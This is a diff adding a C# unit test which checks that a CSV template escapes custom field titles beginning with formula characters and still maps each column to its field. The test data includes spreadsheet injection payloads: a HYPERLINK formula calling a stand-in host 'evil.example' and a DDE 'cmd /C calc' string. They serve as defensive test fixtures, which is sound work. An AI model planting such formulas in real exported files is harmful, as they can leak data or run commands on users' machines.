@@ -116,5 +116,38 @@ public sealed class InputTemplateTests : IDisposable
         Assert.DoesNotContain('\n', error.Message);
     }
 
+    /// <summary>
+    /// Liner's titles are not ours: a CSV header cell that starts with = + - @ is a formula to Excel and LibreOffice (a
+    /// quoted one too). Each such title gets a leading ', and the filled-in file maps every column back to its field.
+    /// </summary>
+    [Fact]
+    public void A_csv_template_of_custom_fields_titled_like_formulas_runs_none_and_maps_back()
+    {
+        var custom = new CustomFields(
+        [
+            new(101, "=HYPERLINK(\"http://evil.example/?leak\",\"Click, here\")", CustomFieldType.String, "leads", []),
+            new(102, "-2+3", CustomFieldType.String, "leads", []),
+            new(103, "+7 телефон", CustomFieldType.String, "leads", []),
+            new(104, "@канал", CustomFieldType.String, "leads", []),
+            new(105, "\t=cmd|' /C calc'!A0", CustomFieldType.String, "leads", []),
+            new(106, "=x", CustomFieldType.String, "leads", []),
+            new(107, "'=x", CustomFieldType.String, "leads", []),
+            new(108, "Тариф", CustomFieldType.String, "leads", []),
+        ]);
+        var path = Path.Combine(_folder.Path, "leads.csv");
+
+        InputTemplate.Write(path, custom: custom);
+
+        using var source = CsvRowSource.Open(path, new CsvInputOptions());
+        Assert.Equal(
+            [.. ExpectedHeader.Split(','), "'=HYPERLINK(\"http://evil.example/?leak\",\"Click, here\")", "'-2+3", "'+7 телефон", "'@канал", "'=cmd|' /C calc'!A0", "custom:106", "''=x", "Тариф"],
+            source.Header);
+        Assert.All(source.Header, cell => Assert.DoesNotMatch("^[=+\\-@\t\r]", cell));
+        var map = ColumnMap.Build(path, source.Header, new Dictionary<string, string>(), [], custom);
+        Assert.Equal(
+            [101L, 102, 103, 104, 105, 106, 107, 108],
+            map.Fields.Skip(LeadFields.All.Count).Select(column => ((CustomField)column.Field).Id));
+    }
+
     private static string[] Cells(IXLRow row) => [row.Cell(2).GetString(), row.Cell(3).GetString(), row.Cell(4).GetString()];
 }
